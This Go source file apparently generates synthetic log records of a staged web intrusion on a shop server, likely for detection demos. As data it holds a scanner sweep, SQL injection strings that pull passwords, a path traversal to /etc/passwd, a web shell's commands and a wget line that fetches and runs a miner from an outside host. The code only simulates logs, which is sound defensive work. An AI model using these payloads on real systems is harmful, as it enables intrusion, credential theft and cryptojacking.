package demo

import (
	"fmt"
	"time"
)

// webShell is the second attack: a shop is scanned, a hole found, a page planted that runs commands, a miner started.
func webShell(p *plotter) {
	const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	shop := facServers()[0]
	d := cast(p.day.seed, "attack/web", 0)
	ask := func(after time.Duration, method, uri string, status, bytes int, agent string) {
		p.request(facShop, shop.name, after, hit{webAttacker, method, uri, status, bytes, "", agent})
	}
	p.begin("web.scan")
	paths := []string{"/admin/", "/.git/config", "/phpmyadmin/", "/wp-login.php", "/backup.zip", "/.env", "/server-status", "/manager/html", "/console/", "/api/v1/users", "/upload.php", "/old/", "/test.php"}
	for i := range 220 {
		status := 404
		uri := pick(d, paths)
		if uri == "/upload.php" {
			status = 200
		}
		ask(time.Duration(i*4)*time.Second, "GET", uri, status, 153, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:"+fmt.Sprintf("%06d", i)+")")
	}
	p.begin("web.injection")
	for i, q := range []string{
		"id=17%27", "id=17%27%20or%20%271%27=%271", "id=-1+UNION+ALL+SELECT+1,2,3--+", "id=-1+UNION+ALL+SELECT+1,user(),3--+",
		"id=-1+UNION+ALL+SELECT+1,table_name,3+FROM+information_schema.tables--+", "id=1%20AND%20SLEEP(5)", "id=-1+UNION+ALL+SELECT+1,password,3+FROM+users--+",
	} {
		ask(time.Duration(i*70)*time.Second, "GET", "/product/detail.php?"+q, []int{500, 200, 500, 200, 200, 200, 200}[i], d.between(900, 9000), agent)
	}
	p.begin("web.traversal")
	ask(0, "GET", "/download.php?file=../../../../etc/hosts.allow", 404, 153, agent)
	ask(25*time.Second, "GET", "/download.php?file=../../../../etc/passwd", 200, 2310, agent)
	p.begin("web.upload")
	ask(0, "POST", "/upload.php", 200, 64, agent)
	ask(20*time.Second, "POST", "/uploads/avatar/a7f3.php", 200, 31, agent)
	p.begin("web.command")
	for i, c := range []string{"whoami", "id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la"} {
		ask(time.Duration(i*40)*time.Second, "GET", "/uploads/avatar/a7f3.php?cmd="+c, 200, d.between(20, 2400), agent)
	}
	p.begin("web.shell")
	for i, c := range []string{"whoami", "id; uname -a", "cat /etc/passwd", "wget http://" + farEnd + "/k -O /dev/shm/.x/kworkerd; chmod +x /dev/shm/.x/kworkerd"} {
		p.add(facAudit, time.Duration(i*40)*time.Second, func(at time.Time) []byte {
			return start{host: shop, user: "www-data", executable: "/bin/sh", line: "sh -c " + c, parent: "/usr/sbin/php-fpm8.2", directory: "/var/www/shop/uploads/avatar", pid: 20100 + i}.json(at)
		})
	}
	p.begin("web.dropper")
	p.add(facLinux, 0, func(at time.Time) []byte {
		return p.day.rfc5424(facLinux, program{priDaemon, shop.name, "audispd", 0}, at, fmt.Sprintf(
			`type=SYSCALL msg=audit(%d.%03d:8812): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=20103 pid=20118 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="kworkerd" exe="/dev/shm/.x/kworkerd" key="exec"`,
			at.Unix(), at.Nanosecond()/1e6))
	})
	p.begin("web.mining")
	for i := range 6 {
		p.session(facFirewall, time.Duration(i*3)*time.Minute, session{firewall: "FAC-FW01", from: shop.addr, to: farEnd, sport: 41000 + i, dport: 3333, proto: 6,
			service: "tcp/3333", action: "accept", policy: 7, sent: d.between(4000, 20_000), received: d.between(2000, 9000), sec: 170, inside: true})
	}
}
